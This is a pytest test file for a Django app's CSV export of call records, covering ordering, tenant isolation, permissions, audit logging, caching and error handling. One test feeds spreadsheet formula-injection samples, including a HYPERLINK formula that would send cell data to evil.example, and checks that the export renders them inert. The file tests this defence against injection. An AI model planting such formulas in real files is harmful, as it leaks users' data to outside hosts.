"""The CSV export: the list's calls in the list's order, safe to open in a spreadsheet.

Runs against the simulator over real HTTP, and reads every file back with Python's csv module.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.test import Client
from django.utils import timezone

from calls.insights import csv_file as csv_export
from calls.insights import export
from calls.models import AuditEvent, Membership
from calls.simulator import Simulator
from tests.call_list.test_call_list import rows_of
from tests.conftest import make_company, make_manager
from tests.insights.test_figures import window_calls
from tests.insights.test_insights_page import INITECH_KEY, vendor_fields

HEADER = (
    "id,direction,state,from,to,line,line_number,started_at,answered_at,duration_seconds,"
    "employees,missed,summary"
)


def read(response) -> list[dict[str, str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def exports():
    return AuditEvent.objects.filter(action=AuditEvent.EXPORT_DOWNLOADED)


def upstream(sim) -> int:
    return sim.request_count("/api/")


@pytest.fixture
def own_sim(simulator, settings):
    sim = Simulator(frozen=True, start=datetime(2025, 3, 4, 20, tzinfo=UTC))
    server = sim.serve(port=0)
    settings.PHONE_INC_API_URL = server.url
    yield sim
    server.stop()


@pytest.fixture
def initech(db):
    return make_company("Initech", INITECH_KEY)


@pytest.fixture
def dana(initech, django_user_model):
    return make_manager(django_user_model, "dana", initech)


@pytest.fixture
def dana_client(dana, own_sim):
    client = Client()
    client.force_login(dana)
    return client


@pytest.fixture
def seeded(own_sim):
    """The hand-computed window of tests/test_insights.py, as Phone.inc serves it."""
    for call in reversed(window_calls()):
        own_sim.add_call(INITECH_KEY, **vendor_fields(call))


# --- The file ------------------------------------------------------------------------------------


def test_it_downloads_a_csv_file_named_for_the_company_and_the_time(alice_client, acme):
    before = timezone.now()
    response = alice_client.get("/calls/export.csv")
    after = timezone.now()
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    names = {csv_export.filename("Acme Corp", moment, acme.zone) for moment in (before, after)}
    disposition = response["Content-Disposition"]
    assert disposition in {f'attachment; filename="{name}"' for name in names}
    assert re.fullmatch(r'attachment; filename="calls-acme-corp-\d{8}-\d{4}\.csv"', disposition)
    assert response["Cache-Control"] == "private, no-store"


def test_it_writes_one_header_row_then_one_row_per_call(alice_client, simulator):
    response = alice_client.get("/calls/export.csv")
    lines = response.content.decode().split("\r\n")
    assert lines[0] == HEADER
    assert len(read(response)) == 10  # the list's default
    assert simulator.requests[-1].query == {"limit": "10"}


@pytest.mark.parametrize(
    "query",
    ["", "limit=50", "direction=inbound&limit=25", "phone_number=(408)+555-0199", "state=ended"],
)
def test_it_holds_the_calls_of_the_list_in_its_order(alice_client, simulator, query):
    listed = [row.call_id for row in rows_of(alice_client.get(f"/calls/?{query}"))]
    exported = [row["id"] for row in read(alice_client.get(f"/calls/export.csv?{query}"))]
    assert listed and exported == listed


def test_it_writes_each_calls_values(dana_client, seeded):
    rows = {row["id"]: row for row in read(dana_client.get("/calls/export.csv?limit=50"))}
    assert list(rows) == ["c6", "c1", "c2", "c3", "c4", "c5", "c7"]  # no start first, as listed
    assert rows["c3"] == {
        "id": "c3",
        "direction": "inbound",
        "state": "ended",
        "from": "+14085550199",
        "to": "+14155551234",
        "line": "Support",
        "line_number": "+14155552000",
        "started_at": "2025-03-04T13:00:00-05:00",
        "answered_at": "2025-03-04T13:00:30-05:00",
        "duration_seconds": "600",
        "employees": "Alex Wong; Priya Patel",
        "missed": "no",
        "summary": "",
    }
    assert (rows["c4"]["missed"], rows["c4"]["employees"], rows["c4"]["duration_seconds"]) == (
        "yes",
        "",
        "",
    )
    assert rows["c5"]["duration_seconds"] == "0"
    assert (rows["c6"]["started_at"], rows["c6"]["answered_at"]) == (
        "",
        "2025-03-04T11:00:00-05:00",
    )
    assert rows["c7"]["state"] == "on_hold"
    assert rows["c2"]["from"] == "+14155551234" and rows["c2"]["direction"] == "outbound"


def test_it_keeps_hostile_text_inert(dana_client, own_sim):
    own_sim.add_call(
        INITECH_KEY,
        from_="+14085550199",
        summary='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        employees=[{"id": "e1", "name": "@SUM(1+1)"}, {"id": "e2", "name": "<script>x</script>"}],
        main_number_name="-1+2",
        main_number="+14155551234",
    )
    (row,) = read(dana_client.get("/calls/export.csv"))
    assert row["summary"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    assert row["employees"] == "'@SUM(1+1); <script>x</script>"
    assert row["line"] == "'-1+2"
    assert (row["from"], row["line_number"]) == ("+14085550199", "+14155551234")


# --- Tenancy, scope and content ----------------------------------------------------------------


def test_it_never_gives_charlie_acmes_calls(alice, charlie, simulator):
    alice_client, charlie_client = Client(), Client()
    alice_client.force_login(alice)
    charlie_client.force_login(charlie)
    acme = {row["id"] for row in read(alice_client.get("/calls/export.csv?limit=50"))}
    globex = read(charlie_client.get("/calls/export.csv?limit=50"))
    assert acme and globex
    assert not acme & {row["id"] for row in globex}
    assert {row["line_number"] for row in globex} <= {"+442079460000", "+441614960000"}
    assert [event.company.name for event in exports()] == ["Globex", "Acme Corp"]


def test_it_exports_only_a_limited_members_lines(dana, dana_client, seeded):
    Membership.objects.filter(user=dana).update(lines=["+14155551234"])
    rows = read(dana_client.get("/calls/export.csv?limit=50"))
    assert [row["id"] for row in rows] == ["c6", "c1", "c2"]


def test_it_leaves_summaries_out_for_a_member_without_content_access(dana, dana_client, own_sim):
    own_sim.add_call(INITECH_KEY, summary="The customer asked about order 1042.")
    assert read(dana_client.get("/calls/export.csv"))[0]["summary"].startswith("The customer")
    Membership.objects.filter(user=dana).update(can_access_content=False)
    assert read(dana_client.get("/calls/export.csv"))[0]["summary"] == ""


def test_a_file_is_written_once_per_answer_and_every_download_is_audited(
    dana_client, own_sim, monkeypatch, settings
):
    own_sim.add_call(INITECH_KEY, summary="First call.")
    written = []
    real = export.csv_text
    monkeypatch.setattr(export, "csv_text", lambda *a: written.append(1) or real(*a))
    first = dana_client.get("/calls/export.csv").content
    assert dana_client.get("/calls/export.csv").content == first  # the same answer
    assert len(written) == 1 and exports().count() == 2

    settings.PHONEDASH_CACHE_SECONDS = 0  # the next download asks Phone.inc again
    own_sim.add_call(INITECH_KEY, summary="Second call.")
    assert read(dana_client.get("/calls/export.csv"))[0]["summary"] == "Second call."
    assert len(written) == 2 and exports().count() == 3


def test_it_names_a_company_in_safe_ascii(client, django_user_model, simulator):
    company = make_company("Société Générale «Paris»", INITECH_KEY)
    client.force_login(make_manager(django_user_model, "sophie", company))
    disposition = client.get("/calls/export.csv")["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="calls-societe-generale-paris-\d{8}-\d{4}\.csv"', disposition
    )


def test_it_falls_back_to_a_plain_name():
    moment = datetime(2025, 3, 4, 14, 12, tzinfo=UTC)
    assert csv_export.filename("東京", moment, UTC) == "calls-company-20250304-1412.csv"


# --- Audit, caching, errors ----------------------------------------------------------------------


def test_it_records_each_download_once(alice, alice_client, simulator):
    alice_client.get("/calls/export.csv?direction=inbound")
    alice_client.get("/calls/export.csv?direction=inbound")
    events = list(exports())
    assert len(events) == 2
    assert {(e.action, e.user, e.detail) for e in events} == {
        (AuditEvent.EXPORT_DOWNLOADED, alice, "direction=inbound, limit=10")
    }
    assert upstream(simulator) == 1  # the second download came from the cache


def test_it_answers_a_bad_filter_with_a_page_not_a_file(alice_client, simulator):
    response = alice_client.get("/calls/export.csv?phone_number=call+me+maybe&limit=99")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert "We can&#x27;t read “call me maybe” as a phone number" in page
    assert "Phone.inc returns at most 50 calls" in page
    assert "Content-Disposition" not in response
    assert upstream(simulator) == 0 and not exports().exists()


@pytest.mark.parametrize(("status", "expected"), [(503, 503), (429, 429), (401, 502)])
def test_it_shows_phone_inc_failures_as_the_styled_page(alice_client, simulator, status, expected):
    simulator.set_fault(status=status, retry_after=30 if status == 429 else None)
    response = alice_client.get("/calls/export.csv")
    assert response.status_code == expected
    assert response["Content-Type"].startswith("text/html")
    assert 'role="alert"' in response.content.decode()
    assert "Content-Disposition" not in response
    assert not exports().exists()


def test_it_answers_only_get(alice_client, simulator):
    assert alice_client.post("/calls/export.csv").status_code == 405


def test_it_sends_anonymous_visitors_to_sign_in(client, simulator):
    response = client.get("/calls/export.csv")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert upstream(simulator) == 0


# --- Links to it ----------------------------------------------------------------------------------


def test_the_list_links_to_the_export_of_its_calls(alice_client, simulator):
    page = alice_client.get("/calls/?direction=inbound&embed=1").content.decode()
    assert 'href="/calls/export.csv?direction=inbound&amp;limit=10&amp;embed=1" download' in page
